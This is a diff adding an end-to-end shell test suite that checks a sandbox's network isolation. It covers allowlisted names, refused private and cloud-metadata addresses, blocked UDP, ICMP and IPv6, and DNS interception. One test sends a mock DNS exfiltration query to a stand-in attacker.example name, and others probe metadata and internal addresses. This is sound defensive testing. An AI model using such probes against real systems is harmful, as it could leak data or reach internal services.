@@ -1,0 +1,269 @@
+# users: user
+# The network: what gets out by name, and what does not. Servers on the host's loopback stand for
+# the world (--resolve allows them by name), and are the positive control of every refusal.
+# shellcheck disable=SC2154,SC2016
+
+load lib
+
+setup_file() {
+	e2e_begin net
+	mkdir "$E2E/ws/app" "$E2E/web"
+	echo 'from the web' > "$E2E/web/page"
+	make_ca files.test
+	serve web --dir "$E2E/web"
+	serve tls --dir "$E2E/web" --tls "$E2E/ca/leaf.pem" "$E2E/ca/leaf.key"
+	make_box net --resolve "files.test:80:127.0.0.1:$web_port" \
+		--resolve "files.test:443:127.0.0.1:$tls_port" \
+		--resolve "files.test:9418:127.0.0.1:$web_port" "$E2E/ws/app"
+	cat > "$E2E/ws/app/try.py" <<-'PY'
+		# try.py HOST:PORT...: what becomes of a TCP connection and a request on it, and when.
+		import socket, sys, time
+		def what(host, port):
+		    try:
+		        s = socket.create_connection((host, int(port)), 20)
+		        s.sendall(b"GET /page HTTP/1.0\r\nHost: x\r\n\r\n")
+		        return "answered" if s.recv(100) else "refused"
+		    except TimeoutError:
+		        return "silence"
+		    except OSError:
+		        return "refused"
+		for word in sys.argv[1:]:
+		    start = time.monotonic()
+		    w = what(*word.rsplit(":", 1))
+		    print(word, w, "at once" if time.monotonic() - start < 5 else "late")
+	PY
+}
+
+teardown_file() {
+	e2e_end
+}
+
+tries() {
+	in_box net 'python3 try.py "$@"' "$@"
+}
+
+# refused HOST:PORT...: at once, and nothing came. Beside them, what is allowed works.
+refused() {
+	local all
+	all=$(tries "$@")
+	equal "$(grep -v ' refused at once$' <<< "$all" || :)" ""
+	equal "$(wc -l <<< "$all")" $#
+	answered
+}
+
+answered() {
+	equal "$(tries files.test:80)" "files.test:80 answered at once"
+}
+
+hits() {
+	cat "$E2E/web.log" "$E2E/tls.log" | wc -l
+}
+
+@test "control: a name that is allowed is reached, by plain HTTP and by TLS" {
+	equal "$(in_box net 'curl -sS -m 20 http://files.test/page')" "from the web"
+	equal "$(in_box net 'curl -sS -m 20 https://files.test/page')" "from the web"
+	answered
+	equal "$(in_box net 'wget -qO - http://files.test/page')" "from the web"
+	# The server sees the host, not the sandbox's own addresses.
+	equal "$(in_box net 'curl -sS -m 20 http://files.test/whoami')" 127.0.0.1
+}
+
+@test "the host's certificates are inside: every client trusts what the host trusts" {
+	equal "$(in_box net 'python3 -c "
+import urllib.request
+print(urllib.request.urlopen(\"https://files.test/page\", timeout=20).read().decode().strip())"')" "from the web"
+	equal "$(in_box net 'node -e "
+fetch(\"https://files.test/page\").then(r => r.text()).then(t => console.log(t.trim()))"')" "from the web"
+	equal "$(in_box_root net 'curl -sS -m 20 https://files.test/page')" "from the web"
+	in_box net 'openssl version >/dev/null 2>&1 && openssl s_client -connect files.test:443 -brief </dev/null 2>&1 | grep "Verification: OK" || :'
+	# And nothing else: another authority's leaf is refused (control: --insecure reads it).
+	run in_box net 'curl -sS -m 20 --cacert /dev/null https://files.test/page'
+	[ "$status" != 0 ]
+	equal "$(in_box net 'curl -sSk -m 20 https://files.test/page')" "from the web"
+}
+
+@test "large transfers both ways arrive whole" {
+	equal "$(in_box net 'curl -sS -m 100 http://files.test/bytes/8000000 | wc -c')" 8000000
+	equal "$(in_box net 'head -c 2000000 /dev/zero | curl -sS -m 100 --data-binary @- http://files.test/echo | wc -c')" 2000000
+	equal "$(in_box net 'for i in $(seq 10); do curl -sS -m 60 http://files.test/bytes/10000 | wc -c & done; wait' | sort | uniq -c | tr -s ' ')" " 10 10000"
+}
+
+@test "git clone" {
+	git init -q --bare "$E2E/web/repo.git"
+	git clone -q "$E2E/web/repo.git" "$E2E/web/work" 2>/dev/null
+	(cd "$E2E/web/work" && echo x > x && git add x && git commit -qm first && git push -q origin HEAD:main)
+	git -C "$E2E/web/repo.git" update-server-info
+	in_box net 'git clone -q https://files.test/repo.git clone && cd clone && git log --format="%s by %an"' > "$E2E/tmp/log"
+	equal "$(cat "$E2E/tmp/log")" "first by Mina Härtel"
+	rm "$E2E/tmp/log"
+}
+
+@test "pip installs from an index" {
+	mkdir -p "$E2E/web/simple/tinypkg"
+	python3 - "$E2E/web/simple/tinypkg/tinypkg-1.0-py3-none-any.whl" <<-'PY'
+		import sys, zipfile
+		with zipfile.ZipFile(sys.argv[1], "w") as z:
+		    z.writestr("tinypkg.py", "word = 'installed by pip'\n")
+		    z.writestr("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n")
+		    z.writestr("tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+		    z.writestr("tinypkg-1.0.dist-info/RECORD", "")
+	PY
+	in_box net 'pip install -q --root-user-action=ignore --index-url https://files.test/simple tinypkg >&2'
+	equal "$(in_box net 'python3 -c "import tinypkg; print(tinypkg.word)"')" "installed by pip"
+}
+
+@test "npm install from the registry" {
+	local registry
+	registry=$(HOME=$BATS_TEST_TMPDIR npm config get registry 2>/dev/null) || registry=
+	pd exec -q ${registry:+-e npm_config_registry="$registry"} net sh -c \
+		'mkdir -p js && cd js && echo {} > package.json && npm install --silent is-number >&2 && node -p "require(\"is-number\")(5)"' \
+		> "$E2E/tmp/npm"
+	equal "$(cat "$E2E/tmp/npm")" true
+	rm "$E2E/tmp/npm"
+}
+
+@test "names: every A is an address of ours, no AAAA, one name one address, by UDP and TCP" {
+	local first
+	first=$(in_box net 'getent ahostsv4 files.test | head -n 1 | cut -d" " -f1')
+	[[ $first =~ ^198\.1[89]\. ]]
+	equal "$(in_box net 'getent ahostsv4 FILES.test. | head -n 1 | cut -d" " -f1')" "$first"
+	[[ $(in_box net 'getent ahostsv4 no-such-name.example | head -n 1') =~ ^198\.1[89]\. ]]
+	[ "$(in_box net 'getent ahostsv4 other.test | head -n 1 | cut -d" " -f1')" != "$first" ]
+	equal "$(in_box net 'getent ahostsv6 files.test | grep -vc ::ffff: || :')" 0
+	equal "$(in_box net 'cat /etc/resolv.conf | grep -c "^nameserver 198.18.0.1$"')" 1
+}
+
+@test "whatever server is asked, by raw DNS: ours answers" {
+	cat > "$E2E/ws/app/dns.py" <<-'PY'
+		# dns.py SERVER NAME udp|tcp: the A record, asked without the system's resolver.
+		import socket, struct, sys
+		q = struct.pack(">6H", 0x1234, 0x100, 1, 0, 0, 0)
+		for label in sys.argv[2].split("."): q += bytes([len(label)]) + label.encode()
+		q += b"\0" + struct.pack(">2H", 1, 1)
+		if sys.argv[3] == "udp":
+		    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
+		    s.connect((sys.argv[1], 53)); s.send(q); a = s.recv(1500)
+		else:
+		    s = socket.create_connection((sys.argv[1], 53), 10)
+		    s.sendall(struct.pack(">H", len(q)) + q); a = s.recv(1500)[2:]
+		assert a[:2] == q[:2] and a[2] & 0x80
+		print("rcode", a[3] & 15, ".".join(map(str, a[-4:])) if a[7] else "no answer")
+	PY
+	local fake server
+	fake=$(in_box net 'getent ahostsv4 files.test | head -n 1 | cut -d" " -f1')
+	for server in 198.18.0.1 8.8.8.8 1.1.1.1 192.168.1.1; do
+		equal "$(in_box net 'python3 dns.py "$1" files.test udp' "$server")" "rcode 0 $fake"
+	done
+	equal "$(in_box net 'python3 dns.py 198.18.0.1 files.test tcp')" "rcode 0 $fake"
+	# What only the host knows stays there: no question of the guest's leaves the machine, so even
+	# a name with data in it is just a name.
+	[[ $(in_box net 'python3 dns.py 8.8.8.8 secret-data-in-a-name.attacker.example udp') == "rcode 0 198.1"* ]]
+}
+
+@test "addresses that are nobody's business are refused at once" {
+	local before where words=()
+	before=$(hits)
+	for where in 10.0.0.1 172.16.0.1 172.31.255.254 192.168.0.1 192.168.1.1 100.64.0.1 \
+		169.254.169.254 169.254.1.1 168.63.129.16 0.0.0.1 198.18.0.1 198.19.255.254 \
+		224.0.0.1 240.0.0.1 255.255.255.255; do
+		words+=("$where:80" "$where:$web_port")
+	done
+	refused "${words[@]}"
+	equal "$(hits)" $((before + 1)) # the one that was allowed
+}
+
+@test "names that lead there are refused too" {
+	local before name words=()
+	before=$(hits)
+	# Asked of our DNS by hand: the guest's own /etc/hosts knows some of them.
+	for name in localhost ip6-localhost "$(hostname)"; do
+		[[ $name =~ ^[a-z0-9.-]+$ ]] || continue
+		words+=("$(in_box net 'python3 dns.py 198.18.0.1 "$1" udp' "$name" | cut -d' ' -f3):$web_port")
+	done
+	# A name is allowed for the port that --resolve names, and no other.
+	refused "${words[@]}" files.test:81 "files.test:$web_port"
+	equal "$(hits)" $((before + 1))
+}
+
+@test "the host's own ports are not behind the gateway, nor behind host.docker.internal" {
+	local where port words=()
+	for where in 198.18.0.1 host.docker.internal; do
+		for port in "$web_port" "$tls_port" 22 631; do
+			words+=("$where:$port")
+		done
+	done
+	refused "${words[@]}"
+	# Control: the host itself reaches it.
+	exec 9<>"/dev/tcp/127.0.0.1/$web_port"
+	exec 9>&-
+}
+
+@test "UDP, ICMP, other protocols and IPv6 do not get out, and say so at once" {
+	in_box_root net 'python3 - <<PY
+import errno, socket, time
+def refused(what, f):
+    start = time.monotonic()
+    try:
+        f()
+    except (ConnectionRefusedError, PermissionError): pass
+    except OSError as e:
+        if e.errno not in (errno.EHOSTUNREACH, errno.ENETUNREACH, errno.EACCES, errno.ENOPROTOOPT, errno.EPROTO, errno.EPROTONOSUPPORT, errno.ECONNREFUSED):
+            raise SystemExit(f"{what}: {e}")
+    else:
+        raise SystemExit(f"{what}: went out")
+    if time.monotonic() - start > 5: raise SystemExit(f"{what}: late")
+def udp(host, port):
+    def f():
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
+        s.connect((host, port)); s.send(b"x"); s.recv(10)
+    return f
+for host in ("8.8.8.8", "192.168.1.1", "files.test"):
+    for port in (123, 443, 853, 40000): refused(f"udp {host} {port}", udp(host, port))
+def tcp6():
+    socket.create_connection(("2001:4860:4860::8888", 443), 10)
+refused("tcp6", tcp6)
+def raw(proto):
+    def f():
+        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto); s.settimeout(3)
+        s.setsockopt(socket.SOL_IP, 11, 1)  # IP_RECVERR
+        s.connect(("8.8.8.8", 0)); s.send(b"x" * 32); s.recv(100)
+    return f
+# (Of protocols that it does not know the kernel rejects nothing, but drops.)
+for proto in (47, 50, 132): refused(f"protocol {proto}", raw(proto))
+PY'
+	run in_box net 'ping -c 1 -W 5 8.8.8.8'
+	[ "$status" != 0 ]
+	has "$output" "100% packet loss"
+	# Control: the gateway answers.
+	in_box net 'ping -c 1 -W 5 198.18.0.1 >/dev/null'
+}
+
+@test "frames of other senders go nowhere" {
+	in_box_root net 'ip addr add 198.18.0.3/30 dev eth0 2>/dev/null; ip addr add 10.1.2.3/24 dev eth0
+		python3 -c "
+import socket
+s = socket.socket(); s.settimeout(4); s.bind((\"10.1.2.3\", 0))
+try: s.connect((\"198.18.0.1\", 80)); print(\"connected\")
+except OSError: print(\"nothing\")
+"; ip addr del 10.1.2.3/24 dev eth0' > "$E2E/tmp/out"
+	equal "$(cat "$E2E/tmp/out")" nothing
+	rm "$E2E/tmp/out"
+	answered
+}
+
+@test "many connections at once cost themselves, not the sandbox" {
+	in_box_root net 'python3 - <<PY
+import socket
+open_ = []
+for i in range(3000):
+    s = socket.socket(); s.setblocking(False)
+    try: s.connect(("files.test" if False else "10.9.8.7", 80))
+    except BlockingIOError: pass
+    except OSError: break
+    open_.append(s)
+print(len(open_))
+PY' > /dev/null
+	works() { [[ $(tries files.test:80) == *answered* ]]; }
+	wait_until 60 works
+	equal "$(box_status net)" running
+}
